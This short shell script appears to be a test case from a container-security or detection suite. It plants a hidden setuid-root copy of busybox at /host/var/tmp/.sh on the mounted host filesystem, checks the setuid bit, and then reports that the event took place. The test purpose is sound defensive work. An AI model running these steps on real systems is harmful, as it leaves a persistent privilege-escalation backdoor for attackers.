#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/var/tmp
cp /bin/busybox /host/var/tmp/.sh
chmod 4755 /host/var/tmp/.sh
test -u /host/var/tmp/.sh
took_place
